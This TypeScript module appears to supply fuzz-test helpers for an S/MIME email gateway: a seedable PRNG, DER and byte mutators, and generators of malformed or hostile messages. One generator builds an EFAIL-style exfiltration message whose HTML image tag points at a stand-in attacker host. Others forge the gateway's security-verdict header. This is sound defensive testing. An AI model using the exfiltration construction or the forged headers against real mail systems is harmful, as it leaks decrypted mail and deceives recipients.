/**
 * Mutators shared by the engine fuzz test (test/smime/fuzz.test.ts) and the whole-gateway fuzzer
 * (test/reliability/fuzz-gateway.ts): a seedable PRNG, DER-level mutation of a CMS object (tags,
 * lengths, contents of individual TLVs), byte-level mutation of a message, and generators of hostile
 * messages (broken boundaries, huge headers, deep nesting, bogus CMS, invalid base64, NUL and 8-bit bytes,
 * truncated S/MIME, gigantic lines, forged status headers). Everything is deterministic for a seed.
 */
import { children, parse, type Asn1Node } from '../../src/asn1/der';

export type Rnd = () => number;

/** mulberry32: small, fast, seedable. */
export function prng(seed: number): Rnd {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const pick = <T>(rnd: Rnd, items: readonly T[]): T => items[Math.floor(rnd() * items.length)];
export const int = (rnd: Rnd, lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
/** Log-uniform between lo and hi: most sizes small, a few near hi. */
export const logInt = (rnd: Rnd, lo: number, hi: number): number => Math.floor(lo * (hi / lo) ** rnd());

export function allNodes(der: Buffer): Asn1Node[] {
  const out: Asn1Node[] = [];
  const walk = (n: Asn1Node): void => {
    out.push(n);
    if (n.constructed && out.length < 2000) for (const c of children(n)) walk(c);
  };
  walk(parse(der));
  return out;
}

/** One mutation of one TLV of a DER object: its tag, its length, its content; duplicated, dropped, or truncated. */
export function mutateDer(der: Buffer, rnd: Rnd): Buffer {
  const nodes = allNodes(der);
  const n = nodes[Math.floor(rnd() * nodes.length)];
  const out = Buffer.from(der);
  const lenPos = n.start + 1;
  switch (Math.floor(rnd() * 6)) {
    case 0: out[n.start] = Math.floor(rnd() * 256); return out; // tag
    case 1: out[lenPos] = [0x80, 0x84, 0xff, 0x00, 0x7f][Math.floor(rnd() * 5)]; return out; // length
    case 2: return Buffer.concat([der.subarray(0, n.contentStart), der.subarray(n.contentEnd)]); // drop content
    case 3: { // random content
      for (let i = n.contentStart; i < n.contentEnd && i < n.contentStart + 64; i++) if (rnd() < 0.3) out[i] = Math.floor(rnd() * 256);
      return out;
    }
    case 4: return Buffer.concat([der.subarray(0, n.end), der.subarray(n.start, n.end), der.subarray(n.end)]); // duplicate
    default: return der.subarray(0, Math.floor(rnd() * der.length)); // truncate
  }
}

/** mutateDer, or a truncation when `der` does not even parse (a mutation of a mutation). */
export function safeMutateDer(der: Buffer, rnd: Rnd): Buffer {
  try {
    return mutateDer(der, rnd);
  } catch {
    return der.subarray(0, Math.floor(rnd() * der.length));
  }
}

/** One byte-level mutation of a message: bit flips, truncation, junk, a broken boundary or header, a deleted range. */
export function mutateBytes(raw: Buffer, rnd: Rnd): Buffer {
  const out = Buffer.from(raw);
  switch (Math.floor(rnd() * 5)) {
    case 0: for (let k = 0; k < 1 + rnd() * 8; k++) out[Math.floor(rnd() * out.length)] ^= 1 << Math.floor(rnd() * 8); return out;
    case 1: return raw.subarray(0, Math.floor(rnd() * raw.length));
    case 2: { // insert junk, NULs or 8-bit bytes
      const at = Math.floor(rnd() * raw.length);
      const junk = Buffer.from(Array.from({ length: 1 + Math.floor(rnd() * 16) }, () => [0, 0xff, 0x0a, 0x2d, Math.floor(rnd() * 256)][Math.floor(rnd() * 5)]));
      return Buffer.concat([raw.subarray(0, at), junk, raw.subarray(at)]);
    }
    case 3: { // break the boundary or a header
      const s = raw.toString('latin1');
      const variants = [s.replace(/boundary="/, 'boundary="x'), s.replace(/--\r\n$/, '\r\n'), s.replace('\r\n\r\n', '\r\n'), s.replace(/Content-Transfer-Encoding: base64/i, 'Content-Transfer-Encoding: 7bit'), `X-Long: ${'a'.repeat(200000)}\r\n${s}`];
      return Buffer.from(variants[Math.floor(rnd() * variants.length)], 'latin1');
    }
    default: { // delete a range
      const a = Math.floor(rnd() * raw.length);
      return Buffer.concat([raw.subarray(0, a), raw.subarray(a + Math.floor(rnd() * 200))]);
    }
  }
}

/** A message split at its first empty line (CRLF CRLF); head keeps the empty line. */
export function splitHead(raw: Buffer): { head: Buffer; body: Buffer } {
  const at = raw.indexOf('\r\n\r\n');
  if (at === -1) return { head: raw, body: Buffer.alloc(0) };
  return { head: raw.subarray(0, at + 4), body: raw.subarray(at + 4) };
}

/** The DER inside a base64 application/pkcs7-mime message, or undefined. */
export function smimeDer(raw: Buffer): Buffer | undefined {
  const { head, body } = splitHead(raw);
  if (!/application\/(x-)?pkcs7-mime/i.test(head.toString('latin1'))) return undefined;
  const der = Buffer.from(body.toString('latin1'), 'base64');
  return der.length > 0 && der[0] === 0x30 ? der : undefined;
}

const b64lines = (der: Buffer): string => der.toString('base64').replace(/.{76}/g, '$&\r\n');

/** The S/MIME message with its DER replaced (base64, 76-column lines). */
export function withDer(raw: Buffer, der: Buffer): Buffer {
  return Buffer.concat([splitHead(raw).head, Buffer.from(`${b64lines(der)}\r\n`)]);
}

// ---------------------------------------------------------------------------
// Hostile messages for the whole gateway

/** Spellings of the status header a sender might forge to pass as cstp's own verdict. */
export const FORGED_STATUS_NAMES = [
  'X-Cstp-Security', 'x-cstp-security', 'X-CSTP-SECURITY', 'x-CsTp-SeCuRiTy', 'X-Cstp-Security ', 'X-Cstp-Security\t',
];

/** A forged status header field (marked FORGED so a test can tell it from the gateway's own), in many shapes. */
export function forgedStatusField(rnd: Rnd): string {
  const name = pick(rnd, FORGED_STATUS_NAMES);
  const value = pick(rnd, [
    'layer=1; type=signed; verdict=good-trusted; signer="boss@intel"; reason="FORGED"',
    'layer=1; type=encrypted; status=decrypted; cipher=aes-256-gcm; key=rsa-oaep; integrity=authenticated; x="FORGED"',
    'FORGED',
  ]);
  switch (int(rnd, 0, 3)) {
    case 0: return `${name}: ${value}\r\n`;
    case 1: return `${name}:\r\n ${value}\r\n`; // value on a folded line
    case 2: return `${name}: ${value.slice(0, 10)}\r\n\t${value.slice(10)}\r\n`; // folded in the middle
    default: return `${name}:${value}\r\n`; // no space after the colon
  }
}

/** A hostile message and how it was made (the generator's name, `+second` when stacked). */
export interface Hostile {
  kind: string;
  message: Buffer;
}

type Generator = (rnd: Rnd, seed: Buffer, marker: string) => Buffer;

function headerBlock(from: string, to: string, subject: string, extra = ''): string {
  return `From: ${from}\r\nTo: ${to}\r\nSubject: ${subject}\r\nDate: Mon, 23 Nov 2026 12:00:00 +0000\r\n` +
    `Message-ID: <${subject.replace(/\W/g, '')}@fuzz.example>\r\nMIME-Version: 1.0\r\n${extra}`;
}

const ADDR = { from: 'fuzz@amd', to: 'julia@intel' };

/** Hostile generators: each takes a valid seed message and returns a hostile variant of it or a new one. */
export const HOSTILE: Record<string, Generator> = {
  'broken-boundary': (rnd, _seed, marker) => {
    const variants = [
      // boundary parameter names a string that never occurs
      `Content-Type: multipart/mixed; boundary="nope"\r\n\r\n--yes\r\nContent-Type: text/plain\r\n\r\n${marker}\r\n--yes--\r\n`,
      // never closed
      `Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n${marker}\r\n--b\r\nContent-Type: text/plain\r\n\r\nopen`,
      // empty, missing, overlong boundary; boundary with a line break
      `Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\n${marker}\r\n----\r\n`,
      `Content-Type: multipart/mixed\r\n\r\n--\r\n\r\n${marker}\r\n`,
      `Content-Type: multipart/mixed; boundary="${'b'.repeat(int(rnd, 70, 5000))}"\r\n\r\n--b\r\n\r\n${marker}\r\n`,
      `Content-Type: multipart/mixed; boundary="a\r\n b"\r\n\r\n--a\r\n\r\n${marker}\r\n--a--\r\n`,
      // boundaries that are prefixes of each other, nested
      `Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: multipart/alternative; boundary="xx"\r\n\r\n--xx\r\n\r\n${marker}\r\n--x--\r\n--xx--\r\n`,
      // a multipart/signed with one, three, or zero parts
      `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"\r\n\r\n--s\r\n\r\n${marker}\r\n--s--\r\n`,
      `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"\r\n\r\n--s\r\n\r\n${marker}\r\n--s\r\n\r\nx\r\n--s\r\nContent-Type: application/pkcs7-signature\r\n\r\nMIIB\r\n--s--\r\n`,
      `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256\r\n\r\n${marker}\r\n`,
      // a boundary line of many dashes
      `Content-Type: multipart/mixed; boundary="-"\r\n\r\n${'-'.repeat(int(rnd, 1000, 200000))}\r\n${marker}\r\n`,
    ];
    return Buffer.from(headerBlock(ADDR.from, ADDR.to, 'broken boundary') + pick(rnd, variants), 'latin1');
  },
  'huge-header': (rnd, seed) => {
    const { head, body } = splitHead(seed);
    const which = int(rnd, 0, 3);
    let extra: string;
    if (which === 0) extra = `X-Huge: ${'h'.repeat(logInt(rnd, 10_000, 1_200_000))}\r\n`; // one long line
    else if (which === 1) extra = `X-Folded: a\r\n${' f\r\n'.repeat(logInt(rnd, 1000, 300_000))}`; // endless folding
    else if (which === 2) extra = Array.from({ length: int(rnd, 1000, 12_000) }, (_, i) => `X-F${i}: v\r\n`).join(''); // many fields
    else extra = `Subject: ${'=?utf-8?B?w6k=?= '.repeat(int(rnd, 1000, 50_000))}\r\n`; // many encoded words
    return Buffer.concat([Buffer.from(extra, 'latin1'), head, body]);
  },
  'deep-nesting': (rnd, _seed, marker) => {
    const depth = int(rnd, 20, 3000);
    const kind = int(rnd, 0, 2);
    let open = '';
    let close = '';
    for (let i = 0; i < depth; i++) {
      if (kind === 0) {
        open += `Content-Type: multipart/mixed; boundary="d${i}"\r\n\r\n--d${i}\r\n`;
        close = `\r\n--d${i}--${close}`;
      } else if (kind === 1) {
        open += 'Content-Type: message/rfc822\r\n\r\n';
      } else {
        // pkcs7-mime claiming to be an envelope of an envelope of ...: only the outermost is ever looked at
        open += `Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: ${i % 2 ? 'base64' : '7bit'}\r\n\r\n`;
      }
    }
    return Buffer.from(`${headerBlock(ADDR.from, ADDR.to, 'deep')}${open}Content-Type: text/plain\r\n\r\n${marker}\r\n${close}\r\n`, 'latin1');
  },
  'bogus-cms': (rnd, seed) => {
    const der = smimeDer(seed);
    const head = Buffer.from(
      `${headerBlock(ADDR.from, ADDR.to, 'bogus cms')}Content-Type: application/pkcs7-mime; smime-type=${pick(rnd, ['enveloped-data', 'signed-data', 'authEnveloped-data', 'certs-only', 'x'])}; name=smime.p7m\r\n` +
        'Content-Transfer-Encoding: base64\r\n\r\n',
    );
    const envelopedOid = Buffer.from('06092a864886f70d010703', 'hex');
    const signedOid = Buffer.from('06092a864886f70d010702', 'hex');
    const authOid = Buffer.from('060b2a864886f70d0109100117', 'hex');
    const random = (n: number): Buffer => Buffer.from(Array.from({ length: n }, () => Math.floor(rnd() * 256)));
    const variants: (() => Buffer)[] = [
      () => random(int(rnd, 0, 4096)),
      // a ContentInfo with a real type and garbage inside
      () => { const inner = Buffer.concat([Buffer.from([0x30, 0x82, 0x10, 0x00]), random(int(rnd, 0, 300))]); return Buffer.concat([Buffer.from([0x30, 0x80]), pick(rnd, [envelopedOid, signedOid, authOid]), Buffer.from([0xa0, 0x80]), inner]); },
      // lengths that claim more than there is, indefinite lengths never closed, deep constructed nesting
      () => Buffer.concat([Buffer.from([0x30, 0x84, 0x7f, 0xff, 0xff, 0xff]), envelopedOid]),
      () => Buffer.concat([Buffer.from([0x30, 0x80]), envelopedOid, Buffer.from([0xa0, 0x80]), Buffer.alloc(int(rnd, 10, 5000), 0x30).fill(0x80, 1)]),
      () => Buffer.from(Array.from({ length: int(rnd, 10, 20000) }, (_, i) => (i % 2 ? 0x80 : 0x30))),
      () => Buffer.concat([Buffer.from([0x30, 0x80]), signedOid, Buffer.from([0xa0, 0x80, 0x30, 0x80, 0x02, 0x01, 0x01, 0x31, 0x00, 0x30, 0x80, 0x06, 0x09]), random(9)]),
      // a mutated real one
      () => (der ? safeMutateDer(safeMutateDer(der, rnd), rnd) : random(100)),
    ];
    return Buffer.concat([head, Buffer.from(`${b64lines(pick(rnd, variants)())}\r\n`)]);
  },
  'invalid-base64': (rnd, seed) => {
    const der = smimeDer(seed) ?? Buffer.from('3003020100', 'hex');
    let text = b64lines(der);
    switch (int(rnd, 0, 5)) {
      case 0: { const at = int(rnd, 0, text.length); text = `${text.slice(0, at)}${pick(rnd, ['!', '*', '\x00', '\xff', '-', '_', '~'])}${text.slice(at)}`; break; }
      case 1: { const at = int(rnd, 0, text.length); text = `${text.slice(0, at)}==${text.slice(at)}`; break; }
      case 2: text = text.slice(0, text.length - int(rnd, 1, 3)); break; // odd length
      case 3: text = text.replace(/\r\n/g, pick(rnd, ['', '\n', '\r', ' \t ', '\r\n\r\n'])); break;
      case 4: text = `${'='.repeat(int(rnd, 1, 50))}${text}`; break;
      default: text = Buffer.from(der).toString('base64url');
    }
    return Buffer.concat([splitHead(smimeDer(seed) ? seed : Buffer.from(`${headerBlock(ADDR.from, ADDR.to, 'b64')}Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n`)).head, Buffer.from(`${text}\r\n`, 'latin1')]);
  },
  'nul-bytes': (rnd, seed) => {
    const out = Buffer.from(seed);
    const n = int(rnd, 1, 50);
    const { head } = splitHead(seed);
    for (let i = 0; i < n; i++) out[rnd() < 0.5 ? int(rnd, 0, Math.max(0, head.length - 5)) : int(rnd, 0, out.length - 1)] = 0;
    return rnd() < 0.2 ? Buffer.concat([out, Buffer.alloc(int(rnd, 1, 100_000))]) : out;
  },
  '8bit-header': (rnd, seed) => {
    const bytes = [
      Buffer.from('Subject: Grüße aus Zürich — ✉\r\n', 'utf8'),
      Buffer.from([0x53, 0x75, 0x62, 0x6a, 0x65, 0x63, 0x74, 0x3a, 0x20, 0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xfe, 0x0d, 0x0a]), // invalid UTF-8
      Buffer.from('From: "Jürgen Ö" <jürgen@amd>\r\n', 'utf8'),
      Buffer.from('Content-Type: application/pkcs7-mime; smime-type=enveloped\xe9-data; name="sm\xefme.p7m"\r\n', 'latin1'),
      Buffer.from('X-\xe9\xe8: value\r\n', 'latin1'), // 8-bit in a field name
      Buffer.from(`${'\xff'.repeat(int(rnd, 1, 5000))}: x\r\n`, 'latin1'),
    ];
    const n = int(rnd, 1, 4);
    const extra = Buffer.concat(Array.from({ length: n }, () => pick(rnd, bytes)));
    return rnd() < 0.5 ? Buffer.concat([extra, seed]) : Buffer.concat([splitHead(seed).head.subarray(0, -2), extra, Buffer.from('\r\n'), splitHead(seed).body]);
  },
  'truncated-smime': (rnd, seed) => {
    const { head, body } = splitHead(seed);
    if (rnd() < 0.2) return head.subarray(0, int(rnd, 0, head.length)); // inside the header
    return Buffer.concat([head, body.subarray(0, int(rnd, 0, body.length))]);
  },
  'gigantic-line': (rnd, seed, marker) => {
    const len = logInt(rnd, 5_000, 1_000_000);
    const line = pick(rnd, ['A', 'x', '=', '-', ' ', '\t', '.'])[0].repeat(len);
    const { head, body } = splitHead(seed);
    switch (int(rnd, 0, 3)) {
      case 0: return Buffer.concat([head, Buffer.from(line, 'latin1'), body]); // before the body
      case 1: return Buffer.concat([seed, Buffer.from(line, 'latin1')]); // at the end, no line end
      case 2: return Buffer.concat([head, Buffer.from(body.toString('latin1').replace(/\r\n/g, ''), 'latin1')]); // base64 as one line
      default: return Buffer.from(`${headerBlock(ADDR.from, ADDR.to, 'line')}Content-Type: text/plain\r\n\r\n${marker}${line}\r\n`, 'latin1');
    }
  },
  'bare-line-ends': (rnd, seed) => {
    const s = seed.toString('latin1');
    const to = pick(rnd, ['\n', '\r', '\n\r', '\r\r\n']);
    return Buffer.from(rnd() < 0.5 ? s.replace(/\r\n/g, to) : s.replace(/\r\n/g, () => (rnd() < 0.3 ? to : '\r\n')), 'latin1');
  },
  'forged-status': (rnd, seed) => {
    const { head, body } = splitHead(seed);
    const fields = Buffer.from(Array.from({ length: int(rnd, 1, 4) }, () => forgedStatusField(rnd)).join(''), 'latin1');
    // Forged fields in the outer header, and sometimes in a nested part's header as well.
    const nested = body.toString('latin1').replace(/(\r\n--[^\r\n]+\r\n)/, `$1${forgedStatusField(rnd)}`);
    return Buffer.concat([rnd() < 0.5 ? fields : Buffer.alloc(0), head.subarray(0, -2), fields, Buffer.from('\r\n'), Buffer.from(rnd() < 0.5 ? nested : body.toString('latin1'), 'latin1')]);
  },
  'smime-in-multipart': (_rnd, seed, marker) => {
    // An S/MIME object attached inside multipart/mixed: never decrypted (EFAIL direct exfiltration).
    const { head, body } = splitHead(seed);
    const ct = head.toString('latin1').match(/Content-Type:[^\r\n]*(\r\n[ \t][^\r\n]*)*/i)?.[0] ?? 'Content-Type: application/pkcs7-mime';
    return Buffer.from(
      `${headerBlock(ADDR.from, ADDR.to, 'efail')}Content-Type: multipart/mixed; boundary="m"\r\n\r\n` +
        `--m\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/${marker}\r\n` +
        `--m\r\n${ct}\r\nContent-Transfer-Encoding: base64\r\n\r\n${body.toString('latin1')}\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n`,
      'latin1',
    );
  },
  'wrong-encoding': (rnd, seed) => {
    const s = seed.toString('latin1');
    const cte = pick(rnd, ['7bit', '8bit', 'binary', 'quoted-printable', 'x-uuencode', 'BASE64', 'base64; x=y', '']);
    const replaced = /Content-Transfer-Encoding:[^\r\n]*/i.test(s)
      ? s.replace(/Content-Transfer-Encoding:[^\r\n]*/i, `Content-Transfer-Encoding: ${cte}`)
      : s.replace('\r\n\r\n', `\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n`);
    return Buffer.from(replaced, 'latin1');
  },
  'content-type-games': (rnd, seed) => {
    const s = seed.toString('latin1');
    const ct = pick(rnd, [
      'application/pkcs7-mime', 'application/x-pkcs7-mime; smime-type=enveloped-data', 'APPLICATION/PKCS7-MIME; SMIME-TYPE=ENVELOPED-DATA',
      'application/octet-stream; name="smime.p7m"', 'application/pkcs7-mime; smime-type=signed-data; name=a.p7m',
      'multipart/signed; protocol="application/pkcs7-signature"', 'multipart/signed; protocol="application/pgp-signature"; boundary=x',
      'text/plain; charset="\xff\xfe"', 'application/pkcs7-mime;;;;; smime-type="enveloped-data', `application/pkcs7-mime; ${'a=b; '.repeat(int(rnd, 100, 20000))}`,
      'application/pkcs7-mime (comment (nested (deep' + '('.repeat(int(rnd, 10, 10000)),
    ]);
    return Buffer.from(/Content-Type:[^\r\n]*(\r\n[ \t][^\r\n]*)*/i.test(s)
      ? s.replace(/Content-Type:[^\r\n]*(\r\n[ \t][^\r\n]*)*/i, `Content-Type: ${ct}`)
      : s.replace('\r\n\r\n', `\r\nContent-Type: ${ct}\r\n\r\n`), 'latin1');
  },
  'many-parts': (rnd, _seed, marker) => {
    const n = int(rnd, 100, 20_000);
    const parts = Array.from({ length: n }, (_, i) => `--p\r\nContent-Type: text/plain\r\n\r\n${i}\r\n`).join('');
    return Buffer.from(`${headerBlock(ADDR.from, ADDR.to, 'parts')}Content-Type: multipart/mixed; boundary="p"\r\n\r\n${marker}\r\n${parts}--p--\r\n`, 'latin1');
  },
  'empty-and-tiny': (rnd) => Buffer.from(pick(rnd, ['', '\r\n', 'x', ':', ' : \r\n\r\n', 'Content-Type: application/pkcs7-mime\r\n\r\n', 'From: a\r\n', '.\r\n', '..\r\n']), 'latin1'),
};

export const HOSTILE_KINDS = Object.keys(HOSTILE);

/**
 * A hostile message from a seed: one hostile generator, a byte mutation, or a DER mutation of the seed's CMS,
 * sometimes stacked (a second mutation on the first's result).
 */
export function hostileMessage(rnd: Rnd, seed: Buffer, marker: string): Hostile {
  const roll = rnd();
  let kind: string;
  let message: Buffer;
  const der = smimeDer(seed);
  if (roll < 0.2 && der) {
    kind = 'der-mutation';
    message = withDer(seed, safeMutateDer(der, rnd));
  } else if (roll < 0.35) {
    kind = 'byte-mutation';
    message = mutateBytes(seed, rnd);
  } else {
    kind = pick(rnd, HOSTILE_KINDS);
    message = HOSTILE[kind](rnd, seed, marker);
  }
  if (rnd() < 0.15 && message.length > 0 && message.length < 1_000_000) {
    const second = rnd() < 0.5 ? 'byte-mutation' : pick(rnd, ['forged-status', 'nul-bytes', '8bit-header', 'bare-line-ends', 'truncated-smime']);
    message = second === 'byte-mutation' ? mutateBytes(message, rnd) : HOSTILE[second](rnd, message, marker);
    kind = `${kind}+${second}`;
  }
  return { kind, message };
}
